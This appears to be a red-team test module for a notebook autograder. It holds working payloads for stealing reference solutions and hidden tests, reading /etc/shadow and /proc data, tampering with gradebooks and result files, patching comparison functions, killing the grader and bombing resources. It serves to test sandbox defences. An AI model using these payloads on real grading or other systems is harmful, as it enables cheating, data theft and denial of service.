"""The red team's class for 01_softmax: honest controls and the submissions that attack the grader.

``MAIN`` is the class graded in one batch: each entry a ``Sub`` (its notebook's cells, the
functions whose tests its honest code should pass, the status it should get). ``CRASHERS`` are
submissions that once made the judge itself raise, each graded in a batch of its own;
``UNREADABLE`` are damaged notebooks. The attacks are grouped by what they go after, in the order
of ``../shared/GRADING.md``'s holes. ``test_redteam.py`` grades them and asserts the outcomes; add
an attack here and its expected outcome beside it, and the tests there pick it up.
"""

import copy
import textwrap
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

import numpy as np

from autograder import paths
from autograder.judge import Assignment, Limits
from autograder.samples import with_cells

NAME = "01_softmax"
LIMITS = Limits(test_seconds=3, cell_seconds=5, notebook_seconds=60, disk_mb=96)  # 96: two 64 MB files
JOBS = 2
MAIN_JOBS = 3  # many of the main batch's students wait on timeouts: one more worker keeps both cores busy
FUNCTIONS = ("softmax", "one_hot", "cross_entropy", "softmax_cross_entropy")
REPO = paths.ROOT
SOLUTION_DIR = paths.SOLUTIONS / NAME
SRC = SOLUTION_DIR / f"{NAME}{paths.SOURCE_SUFFIX}"
SRC_NB = SOLUTION_DIR / f"{NAME}.ipynb"
HIDDEN = SOLUTION_DIR / paths.HIDDEN_TESTS
SITE = Path(np.__file__).resolve().parents[1]  # the venv's site-packages
BOMB_BYTES = 19 << 24  # 304 MiB: a compressed array that inflates past wire.MAX_PAYLOAD (256 MiB)
DISK_FILES = 12  # disk_flood_many writes this many files of file_size_mb each


@lru_cache(maxsize=None)
def asg():
    return Assignment(NAME)


def _tests_calling(function):
    return [gid for gid in asg().info.tests if any(function in c.functions for c in asg().cases[gid])]


# ------------------------------------------------------------------------------------------------
# building submissions
# ------------------------------------------------------------------------------------------------

@dataclass
class Ctx:
    """What the attack code may know: every path on this machine, and a marker for planted files."""

    released: dict
    ref: dict
    wrong: dict
    out: Path
    subs: Path
    mark: str
    gradebook: Path  # the instructor's nbgrader gradebook, beside the out dir as the demo has it

    def fill(self, code):
        tokens = {"@REPO@": REPO, "@SRC@": SRC, "@SRCNB@": SRC_NB, "@HIDDEN@": HIDDEN, "@OUT@": self.out,
                  "@SUBS@": self.subs, "@SITE@": SITE, "@MARK@": self.mark, "@GRADEBOOK@": self.gradebook}
        code = textwrap.dedent(code)
        for token, value in tokens.items():
            code = code.replace(token, repr(str(value)))
        return code

    def nb(self, base="ref", extra=(), **over):
        """The released notebook with solution cells from ``base`` (ref, wrong, stub), ``over``
        replacing some, and ``extra`` code cells appended (all filled with the paths)."""
        cells = {"ref": self.ref, "wrong": self.wrong, "stub": {}}[base]
        cells = dict(cells, **{k: self.fill(v) for k, v in over.items()})
        return with_cells(self.released, cells, [self.fill(c) for c in extra])


@dataclass
class Sub:
    build: object  # Ctx -> notebook dict, or str (the raw file)
    correct: tuple = None  # functions whose honest code is right (None: nothing gradable)
    status: object = "graded"  # expected status, or a tuple of acceptable ones
    exact: bool = True  # score == the honest code's score, per test (else: at most it)


def ref_with(*extra, base="ref", **over):
    return lambda ctx: ctx.nb(base, extra, **over)


def partial_correct(*right):
    """Wrong versions everywhere except the functions in ``right`` (reference code)."""
    def build(ctx, extra=(), **over):
        cells = dict(ctx.wrong, **{f: ctx.ref[f] for f in right})
        cells = dict(cells, **{k: ctx.fill(v) for k, v in over.items()})
        return with_cells(ctx.released, cells, [ctx.fill(c) for c in extra])
    return build


STEAL_LIB = """
import json, os
import numpy as np

def _steal_exec(src, kind):
    ns = {"__name__": "__stolen__", "np": np}
    if kind == "py":
        exec(compile(src, "<stolen>", "exec"), ns)
    else:
        for c in json.loads(src)["cells"]:
            meta = c.get("metadata", {}).get("nbgrader", {})
            if c.get("cell_type") == "code" and meta.get("solution"):
                s = c["source"]
                exec("".join(s) if isinstance(s, list) else s, ns)
    for k in ("softmax", "one_hot", "cross_entropy", "softmax_cross_entropy"):
        if callable(ns.get(k)):
            globals()[k] = ns[k]

def _steal(path):
    try:
        with open(path) as f:
            src = f.read()
        _steal_exec(src, "nb" if str(path).endswith(".ipynb") else "py")
        return True
    except Exception:
        return False

def _try(*fns):
    for fn in fns:
        try:
            fn()
        except BaseException:
            pass
"""

STEAL_ABS = STEAL_LIB + """
import importlib.util
_steal(@SRC@)
_steal(@SRCNB@)

def _as_module():
    spec = importlib.util.spec_from_file_location("stolen_ref", @SRC@)
    m = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(m)
    for k in ("softmax", "one_hot", "cross_entropy", "softmax_cross_entropy"):
        globals()[k] = getattr(m, k)

def _raw():
    fd = os.open(@SRC@, os.O_RDONLY)
    _steal_exec(os.read(fd, 1 << 20).decode(), "py")

_try(_as_module, _raw, lambda: _steal_exec(__import__("pathlib").Path(@SRC@).read_text(), "py"))
"""

STEAL_REL = STEAL_LIB + """
import utils
_base = os.path.dirname(utils.__file__)
_tail = os.path.join("solutions", "01_softmax", "01_softmax.py")
for _p in (os.path.join(_base, "..", _tail),
           "../" * 12 + @SRC@.lstrip("/"),
           f"/proc/{os.getppid()}/cwd/" + _tail,
           f"/proc/{os.getppid()}/root" + @SRC@,
           "/proc/self/root" + @SRC@,
           "/proc/self/cwd/" + "../" * 12 + @SRC@.lstrip("/")):
    _steal(_p)

def _via_symlink():
    os.symlink(os.path.join(_base, "..", "solutions"), "sol")
    _steal("sol/01_softmax/01_softmax.py")

def _via_chdir():
    os.chdir(os.path.join(_base, ".."))
    _steal(_tail)

def _via_dir_fd():
    d = os.open(os.path.join(_base, "..", "solutions"), os.O_RDONLY)
    f = os.open("01_softmax/01_softmax.py", os.O_RDONLY, dir_fd=d)
    _steal_exec(os.read(f, 1 << 20).decode(), "py")

_try(_via_symlink, _via_chdir, _via_dir_fd)
"""

STEAL_WALK = STEAL_LIB + """
import time
_found, _t0 = [], time.monotonic()
for _top in ("/", "/work", @REPO@):
    for _dir, _dirs, _files in os.walk(_top):
        if "01_softmax.py" in _files and "solutions" in _dir:
            _found.append(os.path.join(_dir, "01_softmax.py"))
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", ".venv", ".git", "usr", "lib")]
        if _found or time.monotonic() - _t0 > 3:
            break
for _p in _found:
    _steal(_p)
_try(lambda: [_steal(e.path + "/01_softmax/01_softmax.py") for e in os.scandir(os.path.join(@REPO@, "solutions"))])
"""

STEAL_GLOB = STEAL_LIB + """
import glob, pathlib
for _p in glob.glob(@REPO@ + "/solutions/*/*.py") + glob.glob("/work/*/solutions/01_softmax/*.ipynb"):
    _steal(_p)
_try(lambda: [_steal(p) for p in glob.glob("solutions/*/*.py", root_dir=@REPO@)],
     lambda: [_steal(p) for p in pathlib.Path(@REPO@).glob("solutions/**/01_softmax.py")],
     lambda: [_steal(p) for p in pathlib.Path(@REPO@, "solutions").rglob("*.py")])
"""

STEAL_LINECACHE = STEAL_LIB + """
import linecache, tokenize
_src = "".join(linecache.getlines(@SRC@))
if _src:
    _steal_exec(_src, "py")

def _tok():
    with tokenize.open(@SRC@) as f:
        _steal_exec(f.read(), "py")

_try(_tok)
"""

READ_HIDDEN = STEAL_LIB + """
import importlib.util

def _hidden():
    spec = importlib.util.spec_from_file_location("hidden", @HIDDEN@)
    m = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(m)
    globals()["HIDDEN_TESTS"] = m.TESTS

_try(lambda: open(@HIDDEN@).read(), _hidden,
     lambda: os.listdir(os.path.join(os.path.dirname(@HIDDEN@), "__pycache__")))
"""

READ_REPO = STEAL_LIB + """
_try(lambda: os.listdir(@REPO@),
     lambda: open(os.path.join(@REPO@, "README.md")).read(),
     lambda: open(os.path.join(@REPO@, ".git", "config")).read(),
     lambda: open(os.path.join(@REPO@, "nbgrader_config.py")).read(),
     lambda: open(os.path.join(@REPO@, "autograder", "judge.py")).read(),
     lambda: os.listdir(os.path.join(@REPO@, "out")),
     lambda: open(os.path.join(@REPO@, "solutions", "01_softmax", "wrong_versions.py")).read(),
     lambda: open("/etc/shadow").read())
"""

READ_PEERS = STEAL_LIB + """
_steal(os.path.join(@SUBS@, "honest_a", "01_softmax.ipynb"))
_try(lambda: open(os.path.join(@OUT@, "results", "honest_a.json")).read(),
     lambda: open(os.path.join(@OUT@, "results", "decoy_student.json")).read(),
     lambda: os.listdir(@SUBS@),
     lambda: os.listdir(os.path.join(@OUT@, "results")))
"""

GRADEBOOK = STEAL_LIB + """
import sqlite3

def _db(path, uri=False):
    def go():
        con = sqlite3.connect(path, uri=uri)
        for sql in ("update grade set auto_score = 11", "update grade set score = 11",
                    "insert into student (id) values ('gradebook')",
                    "create table if not exists grade (student text, score real)",
                    "insert into grade values ('gradebook', 11)"):
            try:
                con.execute(sql)
            except sqlite3.Error:
                pass
        con.commit()
        con.close()
    return go

def _raw(path):
    def go():
        with open(path, "r+b") as f:
            f.seek(0, 2)
            f.write(@MARK@.encode())
    return go

for _gb in (os.path.join(@REPO@, "gradebook.db"), os.path.join(@OUT@, "gradebook.db"), @GRADEBOOK@):
    _try(_db(_gb), _db("file:" + _gb + "?mode=rw", uri=True), _raw(_gb))
"""

WRITE_FILES = STEAL_LIB + """
_fake = json.dumps({"key": "forged", "result": {"student": "write_files", "score": 11}})

def _write(path, mode):
    def go():
        with open(path, mode) as f:
            f.write(_fake if "w" in mode else "\\n" + @MARK@)
    return go

_targets = [os.path.join(@OUT@, "results", n) for n in ("honest_a.json", "write_files.json", "decoy_student.json")]
_targets += [os.path.join(@OUT@, n) for n in ("grades.csv", "students.csv", "decoy.txt")]
_targets += [os.path.join(@SUBS@, "honest_m", "01_softmax.ipynb")]
for _t in _targets:
    _try(_write(_t, "a"), _write(_t, "w"))
_planted = [os.path.join(@REPO@, "zz_" + @MARK@ + ".txt"),
            os.path.join(@REPO@, "solutions", "01_softmax", "zz_" + @MARK@ + ".py"),
            os.path.join(@REPO@, "utils", "zz_" + @MARK@ + ".py"),
            os.path.join(@REPO@, "utils", "__pycache__", "zz_" + @MARK@ + ".pyc"),
            os.path.join(@SITE@, "zz_" + @MARK@ + ".pth"),
            os.path.join(@OUT@, "results", "zz_" + @MARK@ + ".json")]
for _t in _planted:
    _try(_write(_t, "x"))
with open("mine.json", "w") as _f:
    _f.write(_fake)
_try(lambda: shutil.copy("mine.json", os.path.join(@OUT@, "results", "decoy_student.json")),
     lambda: os.link("mine.json", os.path.join(@OUT@, "zz_link_" + @MARK@)),
     lambda: os.symlink(os.path.abspath("mine.json"), os.path.join(@OUT@, "zz_sym_" + @MARK@)),
     lambda: os.replace("mine.json", os.path.join(@OUT@, "results", "honest_z.json")),
     lambda: os.utime(@SRC@, (0, 0)),
     lambda: os.chmod(@SRC@, 0o777),
     lambda: os.utime(os.path.join(@OUT@, "decoy.txt"), (0, 0)),
     lambda: os.rename(os.path.join(@OUT@, "decoy.txt"), os.path.join(@OUT@, "decoy2.txt")),
     lambda: os.remove(os.path.join(@OUT@, "results", "decoy_student.json")),
     lambda: shutil.rmtree(os.path.join(@OUT@, "results")))
"""

PATCH_COMPARE = """
import numpy as np, numpy.testing
_T = lambda *a, **k: True
np.allclose = np.isclose = np.array_equal = np.array_equiv = _T
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = np.testing.assert_almost_equal = lambda *a, **k: None
try:
    import autograder.spec as _S
    _S.compare_outputs = lambda *a, **k: None
except Exception:
    pass
"""

EQ_TRUE = {
    "softmax": """
class Liar:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
def softmax(x, axis=-1):
    return Liar()
""",
    "one_hot": "def one_hot(y, num_classes):\n    return Liar()\n",
    "cross_entropy": "def cross_entropy(probs, targets):\n    return Liar()\n",
    "softmax_cross_entropy": "def softmax_cross_entropy(scores, y):\n    return Liar(), Liar()\n",
}

SUBCLASS = {
    "softmax": """
import numpy as np
class Lying(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)
    def __array_finalize__(self, obj):
        pass
    def __float__(self):
        return 0.0
def softmax(x, axis=-1):
    return np.full(np.shape(x), 0.5).view(Lying)
""",
    "one_hot": "def one_hot(y, num_classes):\n    return np.full((len(y), num_classes), 0.5).view(Lying)\n",
    "cross_entropy": "def cross_entropy(probs, targets):\n    return np.array(0.5).view(Lying)\n",
    "softmax_cross_entropy": ("def softmax_cross_entropy(scores, y):\n"
                              "    return np.array(0.5).view(Lying), np.full(np.shape(scores), 0.5).view(Lying)\n"),
}

ARRAY_HOOK = {
    "softmax": """
import numpy as np
class Sneaky:
    def __init__(self, shape):
        self.shape_ = shape
    def __array__(self, dtype=None, copy=None):
        try:  # runs in the student's process only: the comparison is not there
            import autograder.spec as S
            S.compare_outputs = lambda *a, **k: None
            S.to_plain = lambda v: v
        except Exception:
            pass
        return np.full(self.shape_, 0.5)
def softmax(x, axis=-1):
    return Sneaky(np.shape(x))
""",
    "one_hot": "def one_hot(y, num_classes):\n    return Sneaky((len(y), num_classes))\n",
    "cross_entropy": "def cross_entropy(probs, targets):\n    return Sneaky(())\n",
    "softmax_cross_entropy": "def softmax_cross_entropy(scores, y):\n    return Sneaky(()), Sneaky(np.shape(scores))\n",
}

WRONG_TYPES = {
    "softmax": "def softmax(x, axis=-1):\n    return {'probs': x}\n",
    "one_hot": "def one_hot(y, num_classes):\n    return 'one hot'\n",
    "cross_entropy": "def cross_entropy(probs, targets):\n    return None\n",
    "softmax_cross_entropy": "def softmax_cross_entropy(scores, y):\n    return None, 'dscores'\n",
}

PATCH_IMPORT = """
import builtins, types
_real_import = builtins.__import__
_fake = types.ModuleType("numpy")
_fake.allclose = _fake.isclose = lambda *a, **k: True
def _import(name, *args, **kwargs):
    if name.split(".")[0] in ("numpy", "autograder"):
        return _fake
    return _real_import(name, *args, **kwargs)
builtins.__import__ = _import
"""

PATCH_SYS_MODULES = """
import sys, types
_fake = types.ModuleType("numpy")
_fake.allclose = _fake.isclose = _fake.array_equal = lambda *a, **k: True
_fake.array = lambda v, *a, **k: v
for _name in ("numpy", "autograder.spec", "autograder.wire", "numpy.testing"):
    sys.modules[_name] = _fake
"""

PATCH_TRACEBACK = """
import sys, traceback
sys.excepthook = lambda *a: None
traceback.extract_tb = lambda *a, **k: []
traceback.format_exception_only = lambda *a, **k: ["passed\\n"]
traceback.format_list = lambda *a, **k: []
traceback.print_exc = lambda *a, **k: None
"""

PATCH_WARNINGS = """
import warnings
warnings.filterwarnings("ignore")
warnings.showwarning = lambda *a, **k: None
warnings.warn = lambda *a, **k: None
"""

NOISE = """
import warnings
import numpy as np
def _noise():
    np.exp(np.float64(1000.0))  # RuntimeWarning: overflow
    with np.errstate(divide="ignore"):
        np.log(np.float64(0.0))
    np.log(np.zeros(2))  # RuntimeWarning: divide by zero
    np.zeros(1) / np.zeros(1)  # RuntimeWarning: invalid value
    warnings.warn("a warning from the student", UserWarning)
    print("x" * 10**7)
    import sys
    sys.stderr.write("e" * 10**6)
_noise()
"""

FORK_BOMB = STEAL_LIB + """
import subprocess, multiprocessing, time

def _fork():
    for _ in range(3):  # a bounded bomb: a child that got through would only sleep
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)

_try(_fork,
     lambda: subprocess.Popen(["sh", "-c", "sleep 30"]),
     lambda: subprocess.run("sleep 30 &", shell=True),
     lambda: os.system("sleep 30 &"),
     lambda: multiprocessing.Process(target=time.sleep, args=(30,)).start(),
     lambda: os.posix_spawn("/bin/sleep", ["sleep", "30"], {}),
     lambda: __import__("pty").spawn("/bin/true"),
     lambda: os.execv("/bin/sh", ["sh", "-c", "sleep 30"]))
"""

MEM_BOMB = """
import numpy as np
try:
    big = np.ones(10**11)
except MemoryError:
    pass
hog = []
while True:  # grows until the address-space limit (untouched pages: quick to reach)
    hog.append(np.empty(10**8))
"""

DISK_FLOOD = """
with open("big.bin", "wb") as f:
    for _ in range(1024):  # 1 GB
        f.write(bytes(1 << 20))
"""

DISK_FLOOD_MANY = f"""
import os
_written = 0
for i in range({DISK_FILES}):
    try:
        with open(f"big{{i}}.bin", "wb") as f:
            for _ in range({LIMITS.file_size_mb}):
                f.write(bytes(1 << 20))
                _written += 1 << 20
    except OSError:
        pass
raise RuntimeError(f"DISK_BYTES:{{_written}}:")
"""

OUTPUT_FLOOD = """
import os, sys
for i in range(10**5):
    print(i, "y" * 100)
sys.stdout.flush()
for fd in (1, 2):
    try:
        while True:
            os.write(fd, b"y" * (1 << 20))
    except OSError:
        pass
"""

NETWORK = STEAL_LIB + """
import socket
_try(lambda: socket.create_connection(("127.0.0.1", 22), timeout=1),
     lambda: socket.create_connection(("1.1.1.1", 80), timeout=1),
     lambda: socket.socket(socket.AF_UNIX).connect("/run/systemd/private"),
     lambda: __import__("urllib.request").request.urlopen("http://127.0.0.1:1", timeout=1))
"""

KILL_GRADER = STEAL_LIB + """
import signal

def _stop_siblings():  # other students' runners, found through /proc
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read()
            except OSError:
                continue
            if b"autograder.runner" in cmd:
                os.kill(int(pid), signal.SIGSTOP)

_ppid = os.getppid()
_try(lambda: os.kill(_ppid, signal.SIGKILL),
     lambda: os.killpg(os.getpgid(_ppid), signal.SIGKILL),
     _stop_siblings,
     lambda: signal.pthread_kill(__import__("threading").main_thread().ident, 0),
     lambda: os.killpg(0, signal.SIGKILL))
"""

KILL_GRADER_PIDFD = """
import os, signal
try:  # no audit event for these: only the kernel (seccomp) can refuse
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
except OSError:
    pass
"""

PROTO_LIB = """
import io, json, os, struct, sys
import numpy as np

def _proto_fd():
    f = sys._getframe(1)
    while f is not None:
        if "proto_out" in f.f_locals:
            return f.f_locals["proto_out"]
        f = f.f_back
    return 4

def _forge(tree, arrays=()):
    buf = io.BytesIO()
    if arrays:
        np.savez(buf, **{f"a{i}": a for i, a in enumerate(arrays)})
    h, p = json.dumps(tree).encode(), buf.getvalue()
    os.write(_proto_fd(), struct.pack("<IQ", len(h), len(p)) + h + p)

def _D(**kw):
    return {"__dict__": kw}

def _L(*items):
    return {"__list__": list(items)}
"""

PROTO_GARBAGE = """
import os
for fd in range(0, 11):
    try:
        os.write(fd, b"\\x00garbage\\xff" * 64)
    except OSError:
        pass
"""

PROTO_CLOSE = """
import os
for fd in range(0, 11):
    try:
        os.close(fd)
    except OSError:
        pass
"""

PROTO_FN_GARBAGE = PROTO_LIB + """
def one_hot(y, num_classes):
    os.write(_proto_fd(), b"\\x07\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00garbage")
    return np.eye(num_classes)[:, np.asarray(y)]
"""

PROTO_FORGE_VALUE = PROTO_LIB + """
def softmax(x, axis=-1):
    x = np.asarray(x, dtype=float)
    guess = np.full(x.shape, 1.0 / x.shape[axis])  # an answer forged straight onto the channel
    _forge(_D(event="results", results=_L(_D(value={"__array__": 0}))), [guess])
    return guess
"""

VIOLATION_FLOOD = PROTO_LIB + """
import time
def _flood(n):  # forged reports, written straight to the judge's channel
    h = json.dumps(_D(event="violation", what="v" * 500)).encode()
    blob = (struct.pack("<IQ", len(h), 0) + h) * 1000
    fd = _proto_fd()
    for _ in range(n // 1000):
        os.write(fd, blob)
_flood(20000)
"""

ZIP_BOMB = PROTO_LIB + f"""
import zlib
def _bomb(nbytes):
    head = b"\\x93NUMPY\\x01\\x00"
    d = repr({{"descr": "|u1", "fortran_order": False, "shape": (nbytes,)}}).encode()
    d += b" " * ((64 - (len(head) + 2 + len(d) + 1) % 64) % 64) + b"\\n"
    npy_head = head + struct.pack("<H", len(d)) + d
    chunk = 1 << 24
    c = zlib.compressobj(1, zlib.DEFLATED, -15)
    body = c.compress(npy_head) + c.flush(zlib.Z_FULL_FLUSH)
    c = zlib.compressobj(1, zlib.DEFLATED, -15)
    block = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
    comp = body + block * (nbytes // chunk) + zlib.compressobj(1, zlib.DEFLATED, -15).flush()
    crc = zlib.crc32(npy_head)
    zeros = bytes(chunk)
    for _ in range(nbytes // chunk):
        crc = zlib.crc32(zeros, crc)
    usize, name = len(npy_head) + nbytes, b"a0.npy"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(comp), usize, len(name), 0) + name
    cen = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(comp), usize,
                      len(name), 0, 0, 0, 0, 0, 0) + name
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cen), len(local) + len(comp), 0)
    return local + comp + cen + eocd

def softmax(x, axis=-1):
    payload = _bomb({BOMB_BYTES})
    h = json.dumps(_D(event="results", results=_L(_D(value={{"__array__": 0}})))).encode()
    os.write(_proto_fd(), struct.pack("<IQ", len(h), len(payload)) + h + payload)
    os._exit(0)
"""


def _probe_code():
    """A cell that searches everything reachable in the runner (modules, frames, objects) for the
    judge's data, without gc (which the sandbox refuses), and reports through a cell error."""
    secrets = []  # values of the reference's outputs: only the judge has them
    for gid in asg().info.tests:
        for outcome in asg().reference[gid][0]:
            value = outcome.get("value")
            for v in (value if isinstance(value, list) else [value]):
                if isinstance(v, np.ndarray) and v.dtype.kind == "f":
                    secrets += [float(x) for x in v.reshape(-1)[:3] if x != round(float(x))]
    return PROTO_LIB + f"""
import types, numpy as np
_SECRETS = {secrets!r}
_NEEDLES = ["BEGIN " + "SOLUTION", "def softmax" + "_basic", "_numerical_gradient" + "_case", "SUM" + "_HINT",
            "_reference" + "_outputs", "divide exp(x) by its sum " + "along", "def " + "logistic_grad"]
def _probe():
    skip = {{id(_SECRETS), id(_NEEDLES), *map(id, _NEEDLES)}}
    seen, todo, found = set(skip), [], []
    todo += list(sys.modules.values())
    f = sys._getframe()
    while f is not None:
        todo += [f.f_locals, f.f_globals]
        f = f.f_back
    n = 0
    while todo and n < 400000:
        o = todo.pop()
        if id(o) in seen:
            continue
        seen.add(id(o))
        n += 1
        try:
            if isinstance(o, str):
                found += [f"str:{{nd}}" for nd in _NEEDLES if nd in o]
            elif isinstance(o, float):
                if o in _SECRETS:
                    found.append(f"float:{{o}}")
            elif isinstance(o, np.ndarray):
                if o.dtype.kind == "f" and 0 < o.size < 10**6 and np.isin(o, _SECRETS).any():
                    found.append(f"array:{{o.shape}}")
            elif isinstance(o, types.ModuleType):
                name = o.__name__
                if "hidden" in name or "solution" in name or name.split(".")[-1] in (
                        "judge", "grade", "report", "child", "notebooks", "samples", "release"):
                    found.append(f"module:{{name}}")
                todo.append(vars(o))
            elif isinstance(o, dict):  # dict methods: no subclass code runs
                todo += list(dict.keys(o)) + list(dict.values(o))
            elif type(o) in (list, tuple, set, frozenset):
                todo += list(o)
            elif isinstance(o, types.FunctionType):
                todo += [o.__defaults__ or (), o.__kwdefaults__ or {{}}]
                todo += [c.cell_contents for c in (o.__closure__ or ()) if c is not None]
                todo.append(o.__globals__)
            elif isinstance(o, type):
                todo.append(dict(vars(o)))
            else:
                todo.append(object.__getattribute__(o, "__dict__"))
        except Exception:
            pass
    return n, found
_n, _found = _probe()
raise RuntimeError("PROBE:" + json.dumps({{"objects": _n, "found": sorted(set(_found))[:20]}}) + ":END")
"""


PROBE_GC = """
import gc
try:
    _objs = [o for o in gc.get_objects() if isinstance(o, dict) and "reference" in o]
except Exception:
    pass
"""

PROBE_FRAMES = """
import inspect, sys
_stack = [f.filename for f in inspect.stack()]
_seen = []
def _tracer(frame, event, arg):
    _seen.append(frame.f_code.co_filename)
    return None
sys.settrace(_tracer)
sys.setprofile(lambda frame, event, arg: _seen.append(frame.f_code.co_name))
"""

PROBE_PROC = STEAL_LIB + """
_pp = os.getppid()
_try(lambda: open("/proc/self/environ", "rb").read(),
     lambda: open(f"/proc/{_pp}/cmdline", "rb").read(),
     lambda: open(f"/proc/{_pp}/environ", "rb").read(),
     lambda: open(f"/proc/{_pp}/maps").read(),
     lambda: open(f"/proc/{_pp}/mem", "rb").read(10),
     lambda: os.listdir(f"/proc/{_pp}/fd"),
     lambda: os.listdir("/proc"))
"""

PROBE_CTYPES = STEAL_LIB + """
import ctypes
_try(lambda: ctypes.CDLL(None).getpid(),
     lambda: ctypes.string_at(id(_try), 64),
     lambda: ctypes.memmove(id(_try), id(_steal), 8),
     lambda: ctypes.pythonapi.Py_GetVersion(),
     lambda: ctypes.cdll.LoadLibrary("libc.so.6"),
     lambda: __import__("_cffi_backend"))
"""

BUILTINS_TAMPER = """
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 3
builtins.print = lambda *a, **k: None
builtins.open = lambda *a, **k: None
"""

RLIMIT_RAISE = STEAL_LIB + """
import resource
_try(lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
     lambda: resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
     lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (1, 1)))
try:
    _big = np.ones(10**10)
except MemoryError:
    pass
"""

LEAK_SOFTMAX = """
import numpy as np
def softmax(x, axis=-1):
    raise ValueError("inputs " + repr(np.asarray(x).tolist()))
"""

LEAK_CE = """
import numpy as np
def cross_entropy(probs, targets):
    name = "X" + "_".join(repr(v) for v in np.asarray(probs).reshape(-1)[:3])
    raise type(name, (Exception,), {})()
"""

DELEG_FROM = """
from utils.losses import softmax as _s
def softmax(x, axis=-1):
    return _s(x, axis)
"""

DELEG_MODULE = {
    "softmax": "import utils.losses as L\ndef softmax(x, axis=-1):\n    return L.softmax(x, axis)\n",
    "one_hot": "def one_hot(y, num_classes):\n    return L.one_hot(y, num_classes)\n",
    "cross_entropy": "def cross_entropy(probs, targets):\n    return L.cross_entropy(probs, targets)\n",
    "softmax_cross_entropy": "def softmax_cross_entropy(scores, y):\n    return L.softmax_cross_entropy(scores, y)\n",
}

DELEG_KWDEFAULTS = """
import utils.losses as L
def softmax(x, axis=-1):
    return L.softmax.__kwdefaults__["_orig"](x, axis)
"""

DELEG_RELOAD = """
import importlib
import utils.losses as L
_s = importlib.reload(L).softmax
def softmax(x, axis=-1):
    return _s(x, axis)
"""

HANG = "def softmax(x, axis=-1):\n    while True:\n        pass\n"


# ------------------------------------------------------------------------------------------------
# round 2 (issue 10): attacks on the judge around the sandbox
# ------------------------------------------------------------------------------------------------

# 1. switch the audit hook off from Python: take apart every frame and function a refusal's
# traceback shows, patch the modules the hook might call (json, pathlib) to catch its frames, then
# read the hidden tests
HOOK_OFF = """
import json, os, pathlib, sys, types
def _spoil(values):
    for v in values:
        if isinstance(v, dict) and 'open' in v:
            v.clear()
        if isinstance(v, (set, list)):
            try:
                v.clear()
            except Exception:
                pass
        if isinstance(v, types.FunctionType):
            for c in v.__closure__ or ():
                try:
                    c.cell_contents = None
                except Exception:
                    pass
            try:
                v.__code__ = (lambda *a, **k: None).__code__
            except Exception:
                pass
def _from_traceback():
    try:
        open(@HIDDEN@)
    except PermissionError as e:
        tb = e.__traceback__
        while tb is not None:
            _spoil(list(tb.tb_frame.f_locals.values()))
            tb = tb.tb_next
def _grab(*a, **k):
    fr = sys._getframe(1)
    while fr is not None:
        if fr.f_code.co_name != '<module>':
            _spoil(list(fr.f_locals.values()))
        fr = fr.f_back
    return '{}'
_from_traceback()
json.dumps = _grab
pathlib.PurePath.__str__ = _grab
pathlib.PurePath.__fspath__ = _grab
for _p in (pathlib.Path(@HIDDEN@), @HIDDEN@):
    try:
        open(_p)
    except Exception:
        pass
print("HOOKOFF:" + open(@HIDDEN@).read()[:200])
"""

# 1. turn the judge's files into links or FIFOs (the output log, anything it might read), then die
LOG_LINK = """
import os
for _target in ('/proc/self/environ', @HIDDEN@, '/proc/self/cwd'):
    for _name in ('output.log', 'log', 'stderr'):
        try:
            os.symlink(_target, _name)
        except OSError:
            pass
for _name in ('output.log.fifo', 'fifo'):
    try:
        os.mkfifo(_name)
    except OSError:
        pass
print('LOGLINK')
os._exit(1)
"""

# 2. stop reading the judge's requests after shrinking the pipe: the judge's writes would block
PIPE_STALL = """
import fcntl, time
import autograder.wire as _w
for _fd in range(3, 32):
    try:
        fcntl.fcntl(_fd, 1031, 4096)  # F_SETPIPE_SZ
    except OSError:
        pass
_w.read_blocking = lambda fd: time.sleep(10 ** 6)
"""

# 3. spell the hidden inputs in a frame's file name and a function's name
LEAK_FRAMES = """
import numpy as np
def softmax(x, axis=-1):
    tag = "_".join(repr(v) for v in np.asarray(x, dtype=float).reshape(-1)[:3])
    exec(compile("raise ValueError('no')", "<cell " + tag + ">", "exec"))
"""
LEAK_FRAMES_CE = """
import numpy as np
def cross_entropy(probs, targets):
    tag = "_".join(repr(v) for v in np.asarray(probs, dtype=float).reshape(-1)[:3])
    code = compile("def f():\\n    raise ValueError('no')\\n", "<cell 1>", "exec")
    ns = {}
    exec(code, ns)
    f = ns["f"]
    f.__code__ = f.__code__.replace(co_name="leak" + tag)
    f()
"""

# 4. take the course's own function out of whatever the runner put in its place
DELEG_CLOSURE = """
import types
import utils.losses as _L
def _original(f):
    for c in f.__closure__ or ():
        v = c.cell_contents
        if isinstance(v, types.FunctionType) and v.__name__ == f.__name__:
            return v
    return types.FunctionType(f.__code__, f.__globals__, f.__name__, f.__defaults__, f.__closure__)
_s = _original(_L.softmax)
def softmax(x, axis=-1):
    return _s(x, axis)
"""

# 6. a chain of nested folders too deep for a recursive clean-up
DEEP_DIRS = """
import os
_home = os.getcwd()
for _i in range(1500):
    os.mkdir('d')
    os.chdir('d')
os.chdir(_home)
"""

